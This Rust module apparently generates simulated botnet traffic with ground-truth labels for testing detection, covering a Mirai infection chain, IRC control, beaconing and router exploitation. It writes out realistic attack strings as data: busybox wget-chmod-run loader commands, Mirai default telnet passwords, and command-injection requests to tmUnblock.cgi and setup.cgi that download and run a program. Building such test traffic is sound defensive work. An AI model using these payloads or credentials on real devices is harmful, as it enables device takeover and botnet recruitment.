//! A botnet's life: the whole Mirai chain, its parts, and controllers of other kinds.

use super::Scene;
use crate::{
    traffic::{self, Host, Rng, SYN, Talk, TelnetGuess},
    world::{self, DAY, HOUR, MINUTE, SECOND, World},
};

pub(super) const SCENES: &[Scene] = &[
    Scene {
        name: "mirai",
        about: "scan, login, loader, keep-alive to the controller, scan by the new bot, flood",
        play: mirai,
    },
    Scene {
        name: "mirai-unseen",
        about: "a bot whose takeover happened out of sight: keep-alive, scan, flood",
        play: mirai_unseen,
    },
    Scene { name: "irc-bot", about: "a bot takes its orders over IRC and scans", play: irc_bot },
    Scene {
        name: "beacon-scan",
        about: "regular small contacts to one stranger, and then a scan",
        play: beacon_scan,
    },
    Scene {
        name: "beacon-download",
        about: "regular small contacts to one stranger, and a program fetched from another",
        play: beacon_download,
    },
    Scene {
        name: "retries",
        about: "a device never stops trying a dead controller that it did not look up",
        play: retries,
    },
    Scene {
        name: "exploit-http",
        about: "a command injected into a camera's page fetches and runs a program",
        play: exploit_http,
    },
    Scene {
        name: "lateral",
        about: "a device logs in to its neighbours and loads a program onto them",
        play: lateral,
    },
];

/// An ELF program, as far as anyone looks into it.
fn elf(rng: &mut Rng, length: usize) -> Vec<u8> {
    let mut out = vec![0x7f, b'E', b'L', b'F', 1, 1, 1, 97, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 40, 0, 1, 0, 0, 0];
    out.extend(rng.bytes(length));
    out
}

fn fetch(world: &mut World, at: i64, device: Host, server: Host, port: u16, file: &str) -> i64 {
    let (mut talk, mut own) = world.talk(at, device, server, port);
    let length = own.between(30_000, 90_000) as usize;
    let program = elf(&mut own, length);
    let request = format!("GET /{file} HTTP/1.0\r\nUser-Agent: Wget\r\nHost: {}\r\n\r\n", server.ip);
    let answer = format!(
        "HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n",
        program.len()
    );
    talk.open().up(request.as_bytes()).down(&[answer.as_bytes(), &program].concat()).close();
    talk.at
}

/// The loader's session: what it runs once it is in.
fn load(world: &mut World, at: i64, from: Host, device: Host, port: u16, server: &Host, file: &str) -> i64 {
    let name: String = world.rng.word(6).to_uppercase();
    let marker = format!("/bin/busybox {name}");
    let missing = format!("{name}: applet not found");
    let get = format!(
        "/bin/busybox wget http://{}/{file} -O - > .x; /bin/busybox chmod 777 .x; {marker}",
        server.ip
    );
    let (mut talk, mut own) = world.talk(at, from, device, port);
    let commands = [
        ("enable", "enable: not found"),
        ("shell", "shell: not found"),
        ("sh", ""),
        (marker.as_str(), missing.as_str()),
        ("/bin/busybox cat /proc/mounts", "rootfs / rootfs rw 0 0\r\ntmpfs /dev tmpfs rw 0 0"),
        ("/bin/busybox cat /bin/echo", "ELF"),
        (get.as_str(), missing.as_str()),
        ("./.x telnet.arm7; /bin/busybox IHCCE", "listening tun0"),
    ];
    TelnetGuess { logins: &[("root", "xc3511", true)], commands: &commands }.play(&mut talk, &mut own);
    talk.close();
    talk.at
}

/// Keep-alive as Mirai does it: an id, then two zero bytes a minute, echoed.
fn keep_alive(world: &mut World, from: i64, until: i64, bot: Host, controller: Host) {
    let port = *world.doors.pick(&[23, 48_101, 6_667, 3_074, 420, 59_666, 1_791]);
    let (mut talk, mut own) = world.talk(from, bot, controller, port);
    talk.open().up(&[0, 0, 0, 1]).up(&[4, b'a', b'r', b'm', b'7']);
    while talk.at < until {
        talk.up(&[0, 0]).down(&[0, 0]);
        talk.pause((60.0 * SECOND as f64 * own.around(0.01)) as i64);
    }
}

fn random_scan(world: &mut World, from: i64, until: i64, bot: Host, rate: f64) {
    let mut at = from;
    let source = world.doors.ephemeral();
    while at < until {
        let stranger = Host { ip: world::public(&mut world.places).into(), ..world.gateway };
        let port = if world.rng.chance(0.1) { 2323 } else { 23 };
        // Mirai's sequence number is the address it tries.
        let seq = u32::from(stranger.v4());
        world.tape.tcp(at, &bot, &stranger, (source, port), (seq, 0), SYN);
        at += (world.rng.wait(1.0 / rate) * SECOND as f64) as i64;
    }
}

fn flood(world: &mut World, from: i64, bot: Host, victim: Host) -> i64 {
    let mut at = from;
    let udp = world.rng.chance(0.5);
    let port = *world.doors.pick(&[53, 80, 443, 27_015]);
    for _ in 0..world.rng.between(15_000, 40_000) {
        let source = world.doors.port(1_024, 65_000);
        if udp {
            let payload = world.rng.bytes(512);
            world.tape.udp(at, &bot, &victim, (source, port), &payload);
        } else {
            let seq = world.rng.bits() as u32;
            world.tape.tcp(at, &bot, &victim, (source, port), (seq, 0), SYN);
        }
        at += world.secs(0.0001, 0.0012);
    }
    at
}

fn street(world: &mut World, count: usize, length: i64) -> Vec<Host> {
    let others = world.devices(count);
    let (from, until) = (world.start, world.start + length);
    for other in &others {
        world.everyday(other, from, until);
    }
    world.truth.innocent.extend(others.iter().map(|host| host.ip));
    others
}

fn mirai(world: &mut World) {
    let camera = world.device();
    let others = street(world, 6, 40 * MINUTE);
    let (scanner, loader, controller, victim, files) =
        (world.outside(), world.outside(), world.outside(), world.outside(), world.outside());
    let mut at = world.start + world.secs(60.0, 300.0);
    world.truth.attack_at(at);
    // The scanner tries everybody; only the camera answers on telnet.
    for aim in others.iter().chain([&camera]) {
        let (mut talk, _) = world.talk(at, scanner, *aim, 23);
        if aim == &camera {
            talk.open();
            talk.reset();
        } else {
            talk.refused();
        }
        at += world.secs(0.1, 1.0);
    }
    for login in [("root", "vizxv", false), ("admin", "admin", false), ("root", "xc3511", true)] {
        let (mut talk, mut own) = world.talk(at, scanner, camera, 23);
        TelnetGuess { logins: &[login], commands: &[("enable", ""), ("sh", "")] }.play(&mut talk, &mut own);
        talk.close();
        at = talk.at + world.secs(0.1, 1.0);
    }
    at += world.secs(2.0, 20.0);
    at = load(world, at, loader, camera, 23, &files, "bins/mirai.arm7");
    let fetched = fetch(world, at - 2 * SECOND, camera, files, 80, "bins/mirai.arm7");
    let awake = at.max(fetched) + world.secs(1.0, 5.0);
    let end = world.start + 40 * MINUTE;
    keep_alive(world, awake, end, camera, controller);
    let rate = world.rng.between(20, 160) as f64;
    let scanned = awake + 5 * MINUTE;
    random_scan(world, awake + 3 * SECOND, scanned, camera, rate);
    let begins = scanned + world.secs(60.0, 300.0);
    let ends = flood(world, begins, camera, victim);
    world.truth.attack_at(ends);
    world.truth.attackers.extend([scanner.ip, loader.ip]);
    world.truth.accomplices.insert(files.ip);
    world.truth.infected.insert(camera.ip);
    world.truth.controllers.insert(controller.ip);
    world.truth.victims.insert(victim.ip);
    for stage in
        ["reconnaissance|discovery", "credential-access", "execution", "command-and-control", "impact"]
    {
        world.truth.stages.push(stage.into());
    }
    world.truth.severity = "high".into();
    world.truth.max_incidents = 2;
}

fn mirai_unseen(world: &mut World) {
    let camera = world.device();
    street(world, 4, HOUR);
    let (controller, victim) = (world.outside(), world.outside());
    let begins = world.start + world.secs(30.0, 120.0);
    world.truth.attack_at(begins);
    let end = world.start + HOUR;
    keep_alive(world, begins, end, camera, controller);
    let scanned = begins + world.secs(900.0, 1_500.0);
    random_scan(world, scanned, scanned + 3 * MINUTE, camera, 60.0);
    let ends = flood(world, scanned + 10 * MINUTE, camera, victim);
    world.truth.attack_at(ends);
    world.truth.infected.insert(camera.ip);
    world.truth.controllers.insert(controller.ip);
    world.truth.victims.insert(victim.ip);
    for stage in ["reconnaissance|discovery", "command-and-control", "impact"] {
        world.truth.stages.push(stage.into());
    }
    world.truth.severity = "high".into();
}

fn irc_bot(world: &mut World) {
    let bot = world.device();
    street(world, 4, 2 * HOUR);
    let controller = world.outside();
    let begins = world.start + world.secs(30.0, 120.0);
    world.truth.attack_at(begins);
    let port = *world.doors.pick(&[6_667, 6_697, 7_000, 443, 8_080]);
    let end = world.start + 2 * HOUR;
    let (mut talk, mut own) = world.talk(begins, bot, controller, port);
    let nick = format!("[LNX]{}", own.word(7));
    talk.open().up(format!("NICK {nick}\r\nUSER {nick} localhost localhost :{nick}\r\n").as_bytes());
    talk.down(format!(":irc.local 001 {nick} :Welcome\r\n").as_bytes()).up(b"JOIN #x3 :secret\r\n");
    talk.down(
        format!(":{nick}!~x@host JOIN :#x3\r\n:irc.local 332 {nick} #x3 :* SCANRND 120\r\n").as_bytes(),
    );
    let ordered = talk.at;
    while talk.at < end {
        talk.down(b"PING :irc.local\r\n").up(b"PONG :irc.local\r\n");
        talk.pause((90.0 * SECOND as f64 * own.around(0.02)) as i64);
    }
    random_scan(world, ordered + 2 * SECOND, ordered + 2 * MINUTE, bot, 50.0);
    world.truth.attack_at(ordered + 2 * MINUTE);
    world.truth.infected.insert(bot.ip);
    world.truth.controllers.insert(controller.ip);
    world.truth.stages = vec!["command-and-control".into(), "reconnaissance|discovery".into()];
    world.truth.severity = "high".into();
}

/// Short connections at a regular pace, the same size each time.
fn beacon(world: &mut World, from: i64, count: u64, bot: Host, controller: Host) -> i64 {
    let every = world.secs(20.0, 400.0) as f64;
    let spread = 0.02 + 0.15 * world.rng.unit();
    let port = *world.doors.pick(&[443, 80, 8_443, 4_444, 1_337]);
    let mut at = from;
    let hello = world.rng.bytes(68);
    for _ in 0..count {
        let (mut talk, mut own) = world.talk(at, bot, controller, port);
        let answer = own.bytes(24);
        talk.open().up(&hello).down(&answer).close();
        at += (every * world.rng.around(spread)) as i64;
    }
    at
}

fn beacon_scan(world: &mut World) {
    let bot = world.device();
    street(world, 3, 3 * HOUR);
    let controller = world.outside();
    let begins = world.start + world.secs(30.0, 120.0);
    let count = world.rng.between(25, 60);
    world.truth.attack_at(begins);
    let ends = beacon(world, begins, count, bot, controller);
    // The second sign comes while it beacons.
    let scan = begins + (ends - begins) * 3 / 4;
    random_scan(world, scan, scan + MINUTE, bot, 40.0);
    world.truth.attack_at(scan);
    world.truth.attack_at(ends.max(scan + MINUTE));
    world.truth.infected.insert(bot.ip);
    world.truth.controllers.insert(controller.ip);
    world.truth.stages = vec!["command-and-control".into(), "reconnaissance|discovery".into()];
}

fn beacon_download(world: &mut World) {
    let bot = world.device();
    street(world, 3, 3 * HOUR);
    let (controller, files) = (world.outside(), world.outside());
    let begins = world.start + world.secs(30.0, 120.0);
    let count = world.rng.between(25, 60);
    world.truth.attack_at(begins);
    let ends = beacon(world, begins, count, bot, controller);
    let at = begins + (ends - begins) * 2 / 3;
    let port = *world.doors.pick(&[80, 8_080, 1_024, 666]);
    let fetched = fetch(world, at, bot, files, port, "a/arm");
    world.truth.attack_at(at);
    world.truth.attack_at(fetched.max(ends));
    world.truth.infected.insert(bot.ip);
    world.truth.controllers.insert(controller.ip);
    world.truth.accomplices.insert(files.ip);
    world.truth.stages = vec!["command-and-control".into(), "execution".into()];
}

fn retries(world: &mut World) {
    let bot = world.device();
    street(world, 3, DAY / 2);
    let (from, until) = (world.start, world.start + DAY / 2);
    world.everyday(&bot, from, until);
    let controller = world.outside();
    let refused = world.rng.chance(0.3);
    let port = *world.doors.pick(&[6_667, 23, 666, 48_101, 5_034, 443]);
    let mut at = world.start + world.secs(60.0, 300.0);
    world.truth.attack_at(at);
    while at < until {
        let (mut talk, _) = world.talk(at, bot, controller, port);
        if refused {
            talk.refused();
        } else {
            talk.unanswered(3);
        }
        at += world.secs(8.0, 40.0);
    }
    world.truth.attack_at(at);
    world.truth.infected.insert(bot.ip);
    world.truth.controllers.insert(controller.ip);
    world.truth.stages = vec!["command-and-control".into()];
    world.truth.severity = "low".into();
    world.truth.patience = 3_600.0;
}

fn inject(talk: &mut Talk<'_>, host: &Host, server: &Host, file: &str) {
    let body = format!(
        "ttcp_ip=-h+%60cd+%2Ftmp%3B+rm+-rf+{file}%3B+wget+http%3A%2F%2F{}%2F{file}%3B+chmod+777+{file}%3B+.%2F{file}%60&submit_button=&action=",
        server.ip
    );
    let request = format!(
        "POST /tmUnblock.cgi HTTP/1.1\r\nHost: {}\r\nUser-Agent: python-requests/2.20.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        host.ip,
        body.len()
    );
    talk.open().up(request.as_bytes()).down(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").close();
}

fn exploit_http(world: &mut World) {
    let device = world.device();
    street(world, 4, 30 * MINUTE);
    let (from, until) = (world.start, world.start + 30 * MINUTE);
    world.everyday(&device, from, until);
    let (attacker, files) = (world.outside(), world.outside());
    let at = world.start + world.secs(200.0, 500.0);
    world.truth.attack_at(at);
    let port = *world.doors.pick(&[80, 8_080, 81, 49_152]);
    let (mut talk, mut own) = world.talk(at, attacker, device, port);
    let file = format!("{}.mips", own.word(5));
    if own.chance(0.5) {
        inject(&mut talk, &device, &files, &file);
    } else {
        let request = format!(
            "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{}/{file}+-O+/tmp/{file};sh+/tmp/{file}&curpath=/ HTTP/1.0\r\n\r\n",
            files.ip
        );
        talk.open().up(request.as_bytes()).down(b"HTTP/1.0 200 OK\r\n\r\n").closed_by_server();
    }
    let then = talk.at + SECOND;
    let port = *world.doors.pick(&[80, 8_080, 4_040]);
    let ends = fetch(world, then, device, files, port, &file);
    world.truth.attack_at(ends);
    world.truth.infected.insert(device.ip);
    world.truth.attackers.insert(attacker.ip);
    world.truth.accomplices.insert(files.ip);
    world.truth.stages = vec!["execution|initial-access".into()];
    world.truth.severity = "high".into();
}

fn lateral(world: &mut World) {
    let bot = world.device();
    let neighbours = world.devices(3);
    street(world, 4, 30 * MINUTE);
    let files = bot;
    let mut at = world.start + world.secs(60.0, 300.0);
    world.truth.attack_at(at);
    for neighbour in &neighbours {
        world.arp(at, &bot, neighbour);
        for login in [("admin", "admin", false), ("root", "12345", false)] {
            let (mut talk, mut own) = world.talk(at + 1_000, bot, *neighbour, 23);
            TelnetGuess { logins: &[login], commands: &[] }.play(&mut talk, &mut own);
            talk.closed_by_server();
            at = talk.at + world.secs(0.1, 1.0);
        }
        at = load(world, at, bot, *neighbour, 23, &files, "bot.arm");
        let ends = fetch(world, at - 2 * SECOND, *neighbour, files, 8_080, "bot.arm");
        at = at.max(ends) + world.secs(5.0, 30.0);
    }
    // An orderly frame at the end keeps the last conversation whole.
    let gateway = world.gateway;
    world.tape.put(at + SECOND, &traffic::arp(1, (bot.mac, bot.v4()), ([0; 6], gateway.v4()), [0xff; 6]));
    world.truth.attack_at(at);
    world.truth.infected.insert(bot.ip);
    world.truth.infected.extend(neighbours.iter().map(|host| host.ip));
    world.truth.stages = vec!["credential-access|lateral-movement".into(), "execution".into()];
    world.truth.severity = "high".into();
}
